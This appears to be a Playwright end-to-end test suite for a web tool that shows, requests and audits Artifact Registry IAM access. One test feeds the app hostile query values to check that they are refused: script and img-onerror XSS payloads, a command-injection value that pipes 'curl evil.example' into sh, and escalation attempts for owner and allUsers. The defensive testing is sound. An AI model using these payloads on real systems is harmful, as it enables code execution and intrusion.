import type { Page } from '@playwright/test'
import { z } from 'zod'
import { apiCaller } from '../emulator/api-caller.ts'
import { repository, worldOf } from '../support/worlds.ts'
import { expectAccessible, unfoldAll } from './accessibility'
import { expect, type Site, signIn, startSite, test } from './site'

const SETUP = '/repositories/ml-platform/us-central1/ml-private'
const RESOURCE = SETUP.slice(1).replace(
  /^repositories\/([^/]+)\/([^/]+)\/([^/]+)$/,
  'projects/$1/locations/$2/repositories/$3',
)
const REQUEST = `${SETUP}/access/request?${new URLSearchParams({
  role: 'writer',
  for: 'user:rita@example.com',
  reason: 'I release acme-models.',
})}`

const notSeenBody = z.object({
  notSeen: z.array(z.object({ kind: z.string(), subject: z.string() })),
})
const policyBody = z.object({ bindings: z.array(z.unknown()), etag: z.string() })

/** What an administrator does with the command of the request's page. */
async function grantWriter({ emulator }: Pick<Site, 'emulator'>, member: string) {
  const call = apiCaller(emulator.url, emulator.tokenFor('ada@example.com'))
  const { body } = await call(`GET /v1/${RESOURCE}:getIamPolicy`)
  const { bindings, etag } = policyBody.parse(body)
  const added = { role: 'roles/artifactregistry.writer', members: [member] }
  const policy = { version: 3, etag, bindings: [...bindings, added] }
  const { status } = await call(`POST /v1/${RESOURCE}:setIamPolicy`, { policy })
  expect(status).toBe(200)
}

const line = (page: Page, ability: string) =>
  page.getByRole('main').locator(`li[data-ability=${ability}]`)

test('a reader asks for writer; the administrator opens the link, sees the change, and then that it is there', async ({
  browser,
}) => {
  const site = await startSite()
  try {
    const reader = await browser.newPage({ baseURL: site.app.url })
    await signIn(reader, 'rita@example.com', SETUP)
    await expect(line(reader, 'install')).toContainText('Yes')
    await expect(line(reader, 'publish')).toContainText(
      'artifactregistry.repositories.uploadArtifacts is missing. The least role',
    )
    await line(reader, 'publish')
      .getByRole('link', { name: /^Ask for it/ })
      .click()
    await expect(reader.getByLabel('What is it for?')).toHaveValue('writer')
    await expect(reader.getByLabel('For whom?')).toHaveValue('user:rita@example.com')
    await reader.getByLabel('Why?').fill('I release acme-models.')
    await reader.getByRole('button', { name: 'Make the request' }).click()
    const link = reader.locator('figure', { hasText: 'Link' }).locator('code').last()
    const address = (await link.textContent()) ?? ''
    expect(address).toBe(`${site.app.url}${REQUEST}`)
    await expect(reader.locator('figure', { hasText: 'Message' })).toContainText(address)
    await expect(reader.getByText('You may not', { exact: true })).toBeVisible()
    // She may read no policy, but Google has answered for her.
    for (const change of [
      'install granted granted',
      'publish denied granted',
      'delete denied denied',
    ]) {
      await expect(reader.locator(`[data-change="${change}"]`)).toBeVisible()
    }

    const administrator = await browser.newPage({ baseURL: site.app.url })
    await signIn(administrator, 'ada@example.com', '/repositories')
    await administrator.goto(address)
    await expect(administrator.getByText('I release acme-models.').first()).toBeVisible()
    await expect(administrator.locator('[data-change="publish denied granted"]')).toBeVisible()
    await expect(administrator.locator('[data-standing=new]')).toBeVisible()
    await expect(administrator.getByText('You may', { exact: true })).toBeVisible()
    await expect(
      administrator.getByText(
        'gcloud artifacts repositories add-iam-policy-binding ml-private --project=ml-platform --location=us-central1 --member=user:rita@example.com --role=roles/artifactregistry.writer --condition=None',
      ),
    ).toBeVisible()

    await grantWriter(site, 'user:rita@example.com')
    await administrator.reload()
    await expect(administrator.locator('[data-standing=there]')).toContainText('Already there')
    await reader.goto(SETUP)
    await expect(line(reader, 'publish')).toHaveAttribute('data-access', 'granted')
    await expect(line(reader, 'publish')).toContainText('Google says yes')
  } finally {
    await site.stop()
  }
})

test('the administrator sees who can, by which grant, what is risky and what is hidden', async ({
  page,
}) => {
  await signIn(page, 'ada@example.com', SETUP)
  await expect(line(page, 'administer')).toContainText(
    'Administrator, on organization example.com.',
  )
  await page.getByRole('link', { name: 'Who can use it' }).click()
  await expect(page.getByRole('heading', { level: 1 })).toContainText('Who can use ml-private')
  const row = (member: string) => page.locator(`[data-member="${member}"]`)
  await expect(row('user:wes@example.com')).toContainText('Writer, on project ml-platform')
  await expect(row('user:rita@example.com')).toContainText('on folder Engineering')
  await expect(row('group:ml-team@example.com')).toContainText('of unknown size')
  await expect(row('user:cora@example.com')).toContainText('until 2099-01-01')
  await expect(page.getByText('What this page cannot see')).toBeVisible()
  const finding = page.locator('[data-finding=basic-role]').first()
  await expect(finding).toContainText('user:olga@example.com')
  await finding.getByText('how to mend it').click()
  // What else the grant reaches is not on this page.
  await expect(finding.getByText('Look at the audit')).toBeVisible()
  await expect(finding.getByText('remove-iam-policy-binding')).toHaveCount(0)

  await page.getByRole('combobox', { name: /^May/ }).selectOption('administer')
  await page.getByRole('button', { name: 'Filter' }).click()
  await expect(page).toHaveURL(/level=administer/)
  await expect(row('user:ada@example.com')).toBeVisible()
  await expect(row('user:wes@example.com')).toHaveCount(0)
  await page.getByRole('link', { name: 'Show all' }).click()
  await expect(row('user:wes@example.com')).toBeVisible()
})

test('with the wider consent the members of groups are there, and say through which group', async ({
  page,
}) => {
  await signIn(page, 'ada@example.com', `${SETUP}/access`)
  await page.getByRole('link', { name: 'Ask me for the wider consent' }).click()
  await page.getByRole('button', { name: 'ada@example.com' }).click()
  await expect(
    page.locator('[data-member="serviceAccount:trainer@ml-platform.iam.gserviceaccount.com"]'),
  ).toContainText('through group:ml-team@example.com on project ml-platform')
  await expect(page.getByRole('link', { name: 'Ask me for the wider consent' })).toHaveCount(0)
})

test('someone without rights sees why, and what they may do themselves', async ({ page }) => {
  await signIn(page, 'rita@example.com', `${SETUP}/access`)
  await expect(page.getByText('You may not see who has access to this repository')).toBeVisible()
  await expect(page.getByText('roles/artifactregistry.admin').first()).toBeVisible()
  await expect(line(page, 'install')).toContainText('Yes')
  await expect(line(page, 'delete')).toContainText('artifactregistry.versions.delete is missing.')
  await expect(line(page, 'delete').getByRole('link', { name: /^Ask for it/ })).toHaveAttribute(
    'href',
    /role=repoAdmin/,
  )
})

test('what the page cannot see is in its exports: virtual repositories that were not looked for', async ({
  page,
  site,
}) => {
  await signIn(page, 'rita@example.com', `${SETUP}/access`)
  await page.getByText(/^\d+ places that virtual repositories may be in front of, unseen$/).click()
  await expect(
    page.getByText(/Virtual repositories of projects that were not looked through/),
  ).toBeVisible()
  const query = new URLSearchParams({ repository: RESOURCE })
  const json = await (await page.request.get(`${site.app.url}/audit.json?${query}`)).json()
  const { notSeen } = notSeenBody.parse(json)
  const places = notSeen.filter(({ kind }) => kind === 'virtuals').map(({ subject }) => subject)
  expect(places).toContain(RESOURCE)
  const csv = await (await page.request.get(`${site.app.url}/audit.csv?${query}`)).text()
  for (const place of places) {
    expect(csv).toMatch(
      new RegExp(`^"not-seen","${place}",.*Virtual repositories .* It takes artifactregistry`, 'm'),
    )
  }
})

test('a request from outside the organization says so', async ({ page }) => {
  await signIn(page, 'ada@example.com', REQUEST.replace('rita%40example.com', 'eve%40evil.example'))
  await expect(page.getByText('From outside your organization')).toBeVisible()
  await expect(page.getByText('Check that the request is theirs')).toBeVisible()
})

test('whoever has no organization, by what Google vouches for, is told of none', async ({
  page,
}) => {
  await signIn(page, 'gail@gmail.example', REQUEST)
  await expect(page.getByText('Check that the request is theirs')).toBeVisible()
  await expect(page.getByText('From outside your organization')).toHaveCount(0)
})

test('a request that names a group says whom else it reaches', async ({ page }) => {
  await signIn(page, 'ada@example.com', `${REQUEST}&group=a-new-group@example.com`)
  await expect(page.locator('[data-gain="0 1"]')).toContainText('hides an unknown number of people')
  await expect(page.getByText('Give the role to everybody in it:')).toBeVisible()
})

test('a hostile request is refused in words, and nothing of it runs', async ({ page }) => {
  const hostile: Record<string, string>[] = [
    { for: 'user:rita@example.com"><script>alert(1)</script>' },
    { for: 'user:rita@example.com;curl evil.example|sh' },
    { role: 'roles/owner' },
    { until: '2020-01-01' },
    { reason: 'read \u202eonly' },
    { reason: 'x'.repeat(3000) },
    { group: 'allUsers' },
  ]
  const dialogs: string[] = []
  page.on('dialog', (dialog) => dialogs.push(dialog.message()))
  for (const fields of hostile) {
    const query = new URLSearchParams({
      role: 'writer',
      for: 'rita@example.com',
      reason: 'Why.',
      ...fields,
    })
    await page.goto(`${SETUP}/access/request?${query}`)
    await expect(page.getByText('Something in this request cannot be right')).toBeVisible()
    await expect(page.getByRole('main').getByRole('alert')).toHaveCount(1)
    await expect(page.getByText('add-iam-policy-binding')).toHaveCount(0)
  }
  const markup = { role: 'reader', for: 'rita@example.com', reason: '<img src=x onerror=alert(1)>' }
  await page.goto(`${SETUP}/access/request?${new URLSearchParams(markup)}`)
  await expect(page.getByText('<img src=x onerror=alert(1)>').first()).toBeVisible()
  expect(dialogs).toEqual([])
})

test.describe('without JavaScript', () => {
  test.use({ javaScriptEnabled: false })

  test('a request is made, shown and decided', async ({ page }) => {
    await page.goto(`${SETUP}/access/request?role=writer`)
    await page.getByLabel('For whom?').fill('Rita@Example.com')
    await page.getByLabel('Why?').fill('I release acme-models.')
    await page.getByLabel('Until (optional)').fill('2099-12-31')
    await page.getByRole('button', { name: 'Make the request' }).click()
    await expect(
      page
        .getByText('request.time < timestamp("2100-01-01T00:00:00Z")')
        .filter({ visible: true })
        .first(),
    ).toBeVisible()
    await page.getByRole('main').getByRole('link', { name: 'Sign in' }).click()
    await page.getByRole('button', { name: 'ada@example.com' }).click()
    await expect(page.locator('[data-change="publish denied granted"]')).toBeVisible()
  })

  test('who can is shown and filtered', async ({ page }) => {
    await signIn(page, 'ada@example.com', `${SETUP}/access`)
    await page.getByLabel('Granted').selectOption('direct')
    await page.getByRole('button', { name: 'Filter' }).click()
    await expect(page.locator('tr[data-member]')).toHaveCount(1)
    await expect(page.locator('tr[data-member]')).toContainText('ci@ml-platform')
  })
})

test.describe('many people, without JavaScript', () => {
  test.use({ javaScriptEnabled: false })

  test('all of them are on some page, in the order that a head says', async ({ page }) => {
    const people = Array.from({ length: 450 }, (_, at) => `user:person-${at}@example.com`)
    const name = repository('lab-one', 'us', 'tools')
    const site = await startSite({
      world: worldOf(
        [{ id: 'lab-one', repositories: [name] }],
        [
          { role: 'roles/artifactregistry.admin', members: ['user:reader@example.com'] },
          { role: 'roles/iam.securityReviewer', members: ['user:reader@example.com'] },
          { role: 'roles/artifactregistry.reader', members: people },
        ],
      ),
    })
    try {
      await page.goto(
        `${site.app.url}/sign-in?callbackUrl=/repositories/lab-one/us/tools/access?kind=user`,
      )
      await page.getByRole('button', { name: 'reader@example.com' }).click()
      const rows = page.locator('tr[data-member]')
      await expect(rows).toHaveCount(200)
      await expect(page.getByRole('navigation', { name: 'Pages' })).toContainText('1 to 200 of 451')
      await page.getByRole('columnheader', { name: 'May' }).getByRole('link').click()
      await expect(page).toHaveURL(/\?kind=user&sort=-level$/)
      await expect(rows.first()).toHaveAttribute('data-member', 'user:reader@example.com')
      await expect(page.getByRole('columnheader', { name: 'May' })).toHaveAttribute(
        'aria-sort',
        'descending',
      )
      await page.getByRole('link', { name: 'Page 3' }).click()
      await expect(rows).toHaveCount(51)
      await expect(page).toHaveURL(/\?kind=user&sort=-level&page=3$/)
      await page.getByLabel('Order').selectOption('name')
      await page.getByRole('button', { name: 'Filter' }).click()
      await expect(rows.first()).toHaveAttribute('data-member', 'user:person-0@example.com')
    } finally {
      await page.close()
      await site.stop()
    }
  })
})

for (const theme of ['light', 'dark'] as const) {
  test(`axe finds nothing, ${theme}`, async ({ page }) => {
    test.slow()
    await page.emulateMedia({ colorScheme: theme })
    await signIn(page, 'ada@example.com')
    for (const path of [
      `${SETUP}/access`,
      `${SETUP}/access?principal=nobody-is-called-so`,
      REQUEST,
      `${REQUEST}&until=2099-12-31&group=ml-team@example.com`,
      `${SETUP}/access/request`,
      `${SETUP}/access/request?role=owner&for=x&reason=&until=2020-01-01&group=y`,
      SETUP,
    ]) {
      await page.goto(path)
      await page.waitForLoadState('networkidle')
      await unfoldAll(page)
      await expectAccessible(page, `${path} (${theme})`)
    }
  })
}
